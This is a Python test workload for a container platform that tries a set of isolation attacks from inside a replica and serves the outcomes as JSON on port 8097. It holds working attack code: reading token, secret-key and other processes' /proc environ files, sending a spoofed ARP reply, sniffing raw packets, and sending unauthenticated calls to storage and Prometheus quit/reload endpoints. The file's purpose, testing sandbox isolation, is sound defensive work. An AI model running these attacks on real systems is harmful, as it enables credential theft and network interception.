"""A hostile workload: run inside a composed replica, it tries every attack of issue 10 and then
serves what happened as JSON on port 8097 (standard library only: it runs in any image).

Each attack records ``{"ok": true}`` when it SUCCEEDED (bad) and ``{"ok": false, "detail": why}``
when it was stopped. The legitimate work a workload must keep (``legit_*``) records ``ok: true``
when it worked. Targets come from ``ATTACK_TARGETS`` (JSON); the victim's marker comes reversed,
so this process's own environment never holds it.
"""

import glob
import hashlib
import hmac
import datetime
import http.server
import json
import os
import socket
import struct
import urllib.request

T = json.loads(os.environ["ATTACK_TARGETS"])
MARKER = T["marker_reversed"][::-1].encode()
R = {}


def attempt(name, fn):
    try:
        R[name] = {"ok": True, "detail": str(fn())[:300]}
    except Exception as exc:  # noqa: BLE001 - every failure is a result here
        R[name] = {"ok": False, "detail": f"{type(exc).__name__}: {exc}"[:300]}


def read(path):
    with open(path, "rb") as f:
        return f"read {len(f.read())} bytes of {path}"


def grep(paths, what):
    hits = []
    for p in paths:
        try:
            with open(p, "rb") as f:
                if MARKER in f.read():
                    hits.append(p)
        except OSError:
            continue
    if not hits:
        raise PermissionError(f"no {what} readable with the victim's marker ({len(paths)} looked at)")
    return hits


def arp_spoof():
    """One spoofed ARP reply: 'the gateway is at my MAC'. Needs a raw socket (CAP_NET_RAW)."""
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
    s.bind(("eth0", 0))
    mac = s.getsockname()[4]
    gw = socket.inet_aton(T["gateway"])
    arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2, mac, gw, b"\xff" * 6, gw)
    s.send(b"\xff" * 6 + mac + b"\x08\x06" + arp)
    return "sent a spoofed ARP reply"


def sniff():
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    s.settimeout(1)
    return f"captured {len(s.recv(65535))} bytes"


def connect(host, port):
    c = socket.create_connection((host, port), timeout=2)
    c.close()
    return f"connected to {host}:{port}"


def call(method, url):
    req = urllib.request.Request(url, method=method, data=b"" if method == "POST" else None)
    with urllib.request.urlopen(req, timeout=3) as r:
        return f"{r.status} {r.read(200)!r}"


def replace_artifact():
    hits = []
    for p in glob.glob(T["artifact_glob"]):
        with open(p, "ab"):  # opened for writing is enough: nothing is written
            hits.append(p)
    if not hits:
        with open(os.path.join(os.path.dirname(T["artifact_glob"]), "planted"), "wb"):
            hits.append("planted a file in the artifact cache")
    return hits


def s3_put_get():
    """SigV4 by hand (no boto3 needed): PUT then GET one object with the workload's own keys."""
    endpoint = os.environ["OVERCLOUD_S3_ENDPOINT"].rstrip("/")
    bucket, key, body = os.environ["OVERCLOUD_S3_BUCKET"], f"hostile/{os.environ['OVERCLOUD_REPLICA']}", b"legit"
    for method, data in (("PUT", body), ("GET", None)):
        now = datetime.datetime.now(datetime.timezone.utc)
        amz, day = now.strftime("%Y%m%dT%H%M%SZ"), now.strftime("%Y%m%d")
        host = endpoint.split("://", 1)[1]
        payload = hashlib.sha256(data or b"").hexdigest()
        region = os.environ.get("AWS_DEFAULT_REGION", "us-east-1")
        canonical = f"{method}\n/{bucket}/{key}\n\nhost:{host}\nx-amz-content-sha256:{payload}\nx-amz-date:{amz}\n\nhost;x-amz-content-sha256;x-amz-date\n{payload}"
        scope = f"{day}/{region}/s3/aws4_request"
        to_sign = f"AWS4-HMAC-SHA256\n{amz}\n{scope}\n{hashlib.sha256(canonical.encode()).hexdigest()}"
        k = ("AWS4" + os.environ["AWS_SECRET_ACCESS_KEY"]).encode()
        for part in (day, region, "s3", "aws4_request"):
            k = hmac.new(k, part.encode(), hashlib.sha256).digest()
        sig = hmac.new(k, to_sign.encode(), hashlib.sha256).hexdigest()
        auth = (f"AWS4-HMAC-SHA256 Credential={os.environ['AWS_ACCESS_KEY_ID']}/{scope}, "
                f"SignedHeaders=host;x-amz-content-sha256;x-amz-date, Signature={sig}")
        req = urllib.request.Request(f"{endpoint}/{bucket}/{key}", data=data, method=method,
                                     headers={"x-amz-date": amz, "x-amz-content-sha256": payload, "Authorization": auth})
        with urllib.request.urlopen(req, timeout=5) as r:
            got = r.read()
    if got != body:
        raise AssertionError(f"read back {got!r}")
    return "PUT and GET with keys"


attempt("read_tower_token", lambda: read(T["token"]))
attempt("read_tower_secret_key", lambda: read(T["secret_key"]))
attempt("read_other_env_files", lambda: grep(glob.glob(T["victim_dir"] + "/**", recursive=True), "file of the victim"))
attempt("read_other_proc_environ", lambda: grep([f"/proc/{p}/environ" for p in T["victim_pids"]]
                                                + glob.glob("/proc/[0-9]*/environ"), "/proc/<pid>/environ"))
attempt("read_tower_environ", lambda: read(f"/proc/{T['tower_pid']}/environ"))
attempt("list_state_dir", lambda: os.listdir(T["state_dir"]))
attempt("list_run_overcloud", lambda: os.listdir("/run/overcloud"))
attempt("arp_spoof", arp_spoof)
attempt("sniff", sniff)
for i, gw in enumerate(T["gateways"]):
    attempt(f"reach_host_listener_{i}", lambda gw=gw: connect(gw, T["host_port"]))
attempt("filer_without_keys", lambda: call("GET", T["filer"] + "/buckets/"))
attempt("master_without_keys", lambda: call("GET", T["master"] + "/dir/assign"))
attempt("prometheus_quit", lambda: call("POST", T["prometheus"] + "/-/quit"))
attempt("prometheus_reload", lambda: call("POST", T["prometheus"] + "/-/reload"))
attempt("replace_artifact", replace_artifact)
attempt("legit_s3_with_keys", s3_put_get)
attempt("legit_service_by_name", lambda: call("GET", "http://victim:8098/"))


def write_proof():
    with open("proof", "w") as f:
        f.write("written by the attacker")
    return os.path.abspath("proof")


attempt("legit_write_own_dir", write_proof)
attempt("whoami", lambda: open("/proc/self/status").read().split("Uid:")[1].split("\n")[0].strip()
        + " caps " + open("/proc/self/status").read().split("CapEff:")[1].split("\n")[0].strip())

DOC = json.dumps(R).encode()


class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):  # noqa: N802
        self.send_response(200)
        self.send_header("Content-Length", str(len(DOC)))
        self.end_headers()
        self.wfile.write(DOC)

    def log_message(self, *args):
        pass


http.server.ThreadingHTTPServer(("0.0.0.0", 8097), Handler).serve_forever()
